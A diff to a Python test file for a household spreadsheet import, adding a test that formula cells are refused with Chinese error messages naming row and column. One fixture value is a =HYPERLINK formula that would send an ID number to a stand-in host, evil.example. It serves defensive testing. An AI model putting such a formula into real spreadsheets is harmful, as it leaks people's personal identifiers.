@@ -17,7 +17,7 @@ from accounts.roles import Role
 from core.errors import TransitionNotAllowed
 from households import idnumbers
 from households.choices import Gender, HouseholdFlagKind, ImportJobStatus, MemberStatus, Relationship
-from households.imports.columns import BY_KEY, COLUMNS, CellError, read_cell
+from households.imports.columns import BY_KEY, COLUMNS, FORMULA_REFUSED, CellError, read_cell
 from households.imports.reading import read_workbook
 from households.imports.services import (
     MAX_UPLOAD_BYTES,
@@ -395,6 +395,23 @@ def test_every_cell_error_is_collected_in_chinese(worker, village, people, uploa
         "第 3 行“村代码”：“6403”不是 12 位数字的统计用区划代码",
         "第 3 行“姓名”：不能为空",
     ]
+
+
+def test_formulas_and_text_typed_as_formulas_are_refused_naming_row_and_column(worker, village, people, upload):
+    """A live formula (=HYPERLINK that would send an ID number away) and text starting with "=" are refused; the
+    file saves nothing. Text that merely starts with "-" or "+" is data: the ledgers write it inert."""
+    rows = family("F001", village, people, 2)
+    rows[0]["住址"] = '=HYPERLINK("http://evil.example/?id="&G2,"详情")'  # openpyxl writes it as a formula
+    rows[1]["民族"] = "=1+1"
+
+    job = upload(worker, xlsx(rows))
+
+    assert job.status == S.INVALID
+    assert messages_of(job) == [
+        f"第 2 行“住址”：{FORMULA_REFUSED}",
+        f"第 3 行“民族”：{FORMULA_REFUSED}",
+    ]
+    assert not Household.objects.filter(household_no="F001").exists()
 
 
 def test_codes_numbers_and_apostrophes_are_accepted_where_excel_puts_them(worker, village, people, upload, commit):
